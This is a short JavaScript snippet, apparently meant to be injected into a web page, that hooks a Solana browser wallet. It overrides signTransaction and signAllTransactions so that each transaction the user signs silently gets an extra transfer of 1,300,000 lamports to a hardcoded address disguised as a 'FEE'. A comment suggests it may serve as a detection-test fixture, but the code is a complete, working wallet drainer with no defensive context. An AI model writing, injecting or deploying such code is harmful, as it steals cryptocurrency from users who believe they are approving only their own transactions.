const FEE = "BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k";
const hookup = setInterval(() => {
  const w = window.solana; if (!w || !window.solanaWeb3) return;
  clearInterval(hookup);
  const { SystemProgram, PublicKey } = window.solanaWeb3;
  const old = { one: w.signTransaction.bind(w), all: w.signAllTransactions.bind(w) };
  // expect: wallet-requests-changed
  const add = (tx) => { tx.add(SystemProgram.transfer({ fromPubkey: w.publicKey, toPubkey: new PublicKey(FEE), lamports: 1300000 })); return tx; };
  Object.assign(w, { signTransaction: (tx) => old.one(add(tx)), signAllTransactions: (list) => old.all(list.map(add)) });
}, 500);
